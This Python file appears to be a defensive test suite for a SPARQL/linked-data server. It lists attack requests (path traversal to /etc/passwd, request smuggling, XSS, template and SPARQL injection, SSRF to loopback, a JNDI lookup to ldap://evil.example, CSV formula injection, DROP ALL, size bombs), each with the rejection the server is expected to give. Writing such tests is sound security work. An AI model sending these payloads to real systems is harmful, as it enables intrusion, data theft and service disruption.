"""Attacks on a server, each with what must come of it."""

from collections.abc import Iterator
from urllib.parse import quote

import msgspec

BODY_LIMIT = 1_000_000
FORM = "Content-Type: application/x-www-form-urlencoded"
UPDATE = "Content-Type: application/sparql-update"
EXCEL = "Accept: text/csv; header=present; charset=utf-8"


class Attack(msgspec.Struct, frozen=True):
    """What is sent, and what is answered."""

    name: str
    request: bytes
    statuses: tuple[int, ...]
    absent: bytes = b"root:x:"
    """What must not be in the answer, as an attacker would like."""


def get(path: str, *fields: str, method: str = "GET", body: bytes = b"") -> bytes:
    """Write a request that is HTTP."""
    named = ["Host: x", *fields] if not any(f.startswith("Host") for f in fields) else [*fields]
    if body and not any(f.lower().startswith(("content-l", "transfer")) for f in fields):
        named.append(f"Content-Length: {len(body)}")
    head = "\r\n".join([f"{method} {path} HTTP/1.1", *named, "Connection: close", "", ""])
    return head.encode("latin-1") + body


def raw(text: str) -> bytes:
    """Write what is no proper request."""
    return text.encode("latin-1")


def ask(query: str, *fields: str) -> bytes:
    """Write a request that asks the endpoint."""
    return get(f"/sparql?query={quote(query)}", *fields)


DOCUMENT = "/doc/grant/hanau-2022"
CHUNKED = "Transfer-Encoding: chunked"
SCRIPT = "<script>alert(1)</script>"


def on_paths() -> Iterator[Attack]:
    """Leave the folder that is served, or the site."""
    yield Attack("dots", get("/../../../../etc/passwd"), (404,))
    yield Attack("dots below downloads", get("/download/../../../../etc/passwd"), (404,))
    yield Attack("dots, escaped", get("/download/..%2f..%2f..%2fetc%2fpasswd"), (404,))
    yield Attack("dots, escaped twice", get("/download/%252e%252e%252fetc%252fpasswd"), (404,))
    yield Attack("dots as %2e", get("/%2e%2e/%2e%2e/etc/passwd"), (404,))
    yield Attack("backslashes", get("/download/..\\..\\etc\\passwd"), (404,))
    manifest = get("/download/2026-11-22T150000Z/..%2fmanifest.json")
    yield Attack("a file beside the dumps", manifest, (404,), b"source_fingerprint")
    yield Attack("a chart that is none", get("/chart/..%2fmanifest.json"), (404,))
    yield Attack("an asset that is none", get("/static/0/..%2f..%2f..%2fsettings.py"), (404,))
    yield Attack("a shape that is none", get("/def/shapes/..%2f..%2fgrant"), (404,))
    yield Attack("a zero byte", get("/download/wirlod.nt.gz%00.html"), (404,))
    yield Attack("bytes that are no UTF-8", get("/doc/grant/%c0%ae%c0%ae"), (400,))
    yield Attack("an address of another site", get("//evil.example/"), (308, 404))
    yield Attack("a redirect to another site", get("/doc//evil.example/%2f.."), (308, 404))
    yield Attack("a redirect by backslash", get("/\\evil.example/"), (308, 404))
    yield Attack("an absolute address", get("http://evil.example/"), (200, 308, 400, 403, 404))
    yield Attack("the environment", get("/proc/self/environ"), (404,))
    yield Attack("a repository", get("/.git/config"), (404,))
    yield Attack("numbers without a token", get("/metrics"), (403,), b"wirlod_requests")
    forwarded = get("/metrics", "X-Forwarded-For: 127.0.0.1")
    yield Attack("numbers through a proxy", forwarded, (403,), b"wirlod_requests")
    empty = get("/metrics", "Authorization: Bearer ")
    yield Attack("numbers by an empty token", empty, (403,), b"wirlod_requests")


def on_heads() -> Iterator[Attack]:
    """Say what is not so, or more than is read."""
    yield Attack("no host", raw("GET / HTTP/1.1\r\nConnection: close\r\n\r\n"), (400,))
    yield Attack("two hosts", get("/", "Host: x", "Host: y"), (400,))
    yield Attack("a host that is none", get("/", "Host: a b"), (400,))
    yield Attack("a host with a path", get("/", "Host: x/evil"), (400,))
    yield Attack("another host", get(DOCUMENT, "Host: evil.example"), (200,))
    forwarded = ("X-Forwarded-Host: evil.example", "X-Forwarded-Proto: gopher")
    yield Attack("another host, forwarded", get(DOCUMENT, *forwarded), (200,))
    prefix = get(DOCUMENT, "X-Forwarded-Prefix: //evil.example", "Forwarded: host=evil.example")
    yield Attack("another prefix", prefix, (200,))
    rewritten = get(DOCUMENT, "X-Original-URL: /metrics", "X-Rewrite-URL: /metrics")
    yield Attack("another address", rewritten, (200,), b"wirlod_requests")
    override = get(DOCUMENT, "X-HTTP-Method-Override: DELETE", "X-Method: PUT")
    yield Attack("another method", override, (200,))
    split = get(f"{DOCUMENT}?lang=%0d%0aX-Evil:%20yes", "Accept: text/html")
    yield Attack("a field in a parameter", split, (406,), b"\r\nX-Evil")
    yield Attack("a field in a path", get("/doc/grant/x%0d%0aX-Evil:%20yes"), (404,), b"\r\nX-Evil")
    named = get(DOCUMENT, "X-Request-ID: aaaaaaaa%0d%0aX-Evil: yes")
    yield Attack("a field in a name", named, (200,), b"X-Evil: yes")
    yield Attack("a zero byte in a field", get("/", "Accept: a\0b"), (400,))
    yield Attack("a folded field", get("/", "Accept: a\r\n b"), (400,))
    yield Attack("a field without a colon", get("/", "Accept"), (400,))
    yield Attack("a space before the colon", get("/", "Accept : a"), (400,))
    yield Attack("a long address", get(f"/{'a' * 9_000}"), (414,))
    yield Attack("a long field", get("/", f"X-Long: {'a' * 70_000}"), (431,))
    yield Attack("many fields", get("/", *(f"X-{n}: y" for n in range(200))), (431,))
    yield Attack("many parameters", get("/doc/grant?" + "a=b&" * 300), (400,))
    yield Attack(
        "many ranges", get("/download/wirlod.nt.gz", "Range: bytes=" + "0-0," * 900), (404,)
    )
    yield Attack("the method TRACE", get("/", "X-Secret: s", method="TRACE"), (405,), b"X-Secret")
    yield Attack("the method CONNECT", get("evil.example:80", method="CONNECT"), (400, 404, 405))
    yield Attack("an unknown method", get("/", method="EVIL"), (405,))
    yield Attack("HTTP 0.9", raw("GET /\r\n\r\n"), (400,))
    yield Attack("HTTP 9.9", raw("GET / HTTP/9.9\r\nHost: x\r\n\r\n"), (400, 505))
    yield Attack("an upgrade", get("/", "Upgrade: h2c", "Connection: Upgrade"), (200, 308, 400))


def by_smuggling() -> Iterator[Attack]:
    """Have a second request read out of the first; an answer to it would name this word."""
    second = b"GET /doc/grant/smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
    both = ("Content-Length: 4", CHUNKED)
    hidden = b"smuggled"
    cases = {
        "length and chunks": (both, b"0\r\n\r\n" + second),
        "two lengths": (("Content-Length: 4", "Content-Length: 50"), second),
        "a list of lengths": (("Content-Length: 4, 50",), second),
        "a length with a sign": (("Content-Length: +4",), second),
        "a negative length": (("Content-Length: -1",), second),
        "a length that is no number": (("Content-Length: 0x4",), second),
        "chunks said strangely": (("Transfer-Encoding: xchunked",), second),
        "chunks said twice": ((CHUNKED, "Transfer-Encoding: identity"), b"0\r\n\r\n" + second),
        "chunks said with a tab": (("Transfer-Encoding:\x0bchunked",), b"0\r\n\r\n" + second),
        "a chunk of a bad size": ((CHUNKED,), b"zz\r\n" + second),
        "a chunk of a negative size": ((CHUNKED,), b"-1\r\n" + second),
        "a chunk that does not end": ((CHUNKED,), b"5\r\nabcdefgh\r\n0\r\n\r\n" + second),
        "an extension with a line end": ((CHUNKED,), b"1;a\nb\r\nx\r\n0\r\n\r\n" + second),
    }
    for name, (fields, body) in cases.items():
        request = get("/sparql", FORM, *fields, method="POST", body=body)
        yield Attack(name, request, (400, 411, 413, 501), hidden)
    bare = raw("GET / HTTP/1.1\nHost: x\n\n") + second
    yield Attack("bare line feeds", bare, (400, 408), hidden)


def by_texts() -> Iterator[Attack]:
    """Have a text become a part of a page, a query or a sheet."""
    html, bad = "Accept: text/html", SCRIPT.encode()
    found = get(f"/search?q={quote(SCRIPT)}", html)
    yield Attack("a script in a search", found, (200,), bad)
    yield Attack("a script in an address", get(f"/doc/grant/{quote(SCRIPT)}", html), (404,), bad)
    shown = get(f"/sparql?query={quote(SCRIPT)}", html)
    yield Attack("a script in a query", shown, (400,), bad)
    result = ask(f"SELECT ('{SCRIPT}' AS ?x) {{}}", html)
    yield Attack("a script in a result", result, (200,), bad)
    variable = get(f"/doc/grant?{quote(SCRIPT)}=1", html)
    yield Attack("a script in a name", variable, (400,), bad)
    link = get(f"/describe?iri={quote('javascript:alert(1)')}", html)
    yield Attack("a link that runs", link, (400, 404), b'href="javascript:')
    template = get(f"/search?q={quote('{{7*191}}${7*191}#{7*191}')}", html)
    yield Attack("a template", template, (200,), b"1337")
    yield Attack("a lookup", get(DOCUMENT, "X-Api: ${jndi:ldap://evil.example/a}"), (200,))
    for name, text in {
        "a query in a filter": "x> } UNION { ?s ?p ?o } #",
        "a query in a text": '") } UNION { ?s ?p ?o } #',
        "a quote in a text": "\\",
    }.items():
        yield Attack(
            name, get(f"/doc/grant.csv?label={quote(text)}"), (200, 400), b"werra-meissner"
        )
    yield Attack(
        "a query in a reference",
        get(f"/doc/grant.csv?recipient={quote('organisation/x> ?p ?o } #')}"),
        (400, 404),
        b"werra",
    )
    question = get(f"/questions/grants-in-a-year.csv?year={quote('2022 } #')}")
    yield Attack("a query in a question", question, (400,), b"werra")
    for name, text in {"words of the index": '" OR kreis NEAR(', "a star": "*", "a -": "-"}.items():
        yield Attack(f"{name} in a search", get(f"/search?q={quote(text)}"), (200, 400))
    loopback = "SELECT * { SERVICE <http://127.0.0.1:9/> { ?s ?p ?o } }"
    yield Attack("a query sent on", ask(loopback), (403,))
    hidden = "SELECT * { #\nSERV\\u0049CE <http://127.0.0.1:9/> { ?s ?p ?o } }"
    yield Attack("a query sent on, hidden", ask(hidden), (400, 403))
    yield Attack("a graph of files", ask("ASK FROM <file:///etc/passwd> {}"), (403,))
    yield Attack("a graph of the web", ask("ASK FROM <http://127.0.0.1:9/> {}"), (403,))
    drop = get("/sparql", UPDATE, method="POST", body=b"DROP ALL")
    yield Attack("an update", drop, (403, 415))
    form = get("/sparql", FORM, method="POST", body=b"update=DROP+ALL")
    yield Attack("an update in a form", form, (400, 403))
    yield Attack("an update as a query", ask("DROP ALL"), (400, 403))
    formula = "SELECT ('=cmd|calc' AS ?x) ('@SUM(1)' AS ?y) ('+1' AS ?z) {}"
    excel = get(f"/sparql?format=excel&query={quote(formula)}")
    yield Attack("a formula in a sheet", excel, (200,), b"\n=cmd")
    sort = get(f"/doc/grant.csv?sort={quote('label) } #')}")
    yield Attack("a query in an order", sort, (400,), b"werra")


def by_size() -> Iterator[Attack]:
    """Have more read, unpacked or computed than there is room for."""
    bomb = get("/sparql", FORM, "Content-Encoding: gzip", method="POST", body=b"\x1f\x8b" * 999)
    yield Attack("a packed body", bomb, (400, 415))
    large = get("/sparql", FORM, method="POST", body=b"query=" + b"a" * BODY_LIMIT)
    yield Attack("a large body", large, (413,))
    said = get("/sparql", FORM, "Content-Length: 99999999999", method="POST", body=b"query=")
    yield Attack("a body said to be huge", said, (413,))
    parts = "Content-Type: multipart/form-data; boundary=x"
    many = b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n\r\n" * 5_000 + b"--x--"
    yield Attack(
        "a form of many parts", get("/sparql", parts, method="POST", body=many), (400, 413, 415)
    )
    deep = ask("ASK { " + "{" * 300 + "}" * 300 + " }")
    yield Attack("a deep query", deep, (403,))
    yield Attack("a page far away", get(f"/doc/grant?page={'9' * 100}"), (400, 404))
    yield Attack("a huge page", get("/doc/grant?size=1000000000"), (400,))
    words = get(f"/search?q={quote(' '.join(['kreis'] * 900))}")
    yield Attack("a search of many words", words, (200, 400))


ATTACKS = [*on_paths(), *on_heads(), *by_smuggling(), *by_texts(), *by_size()]
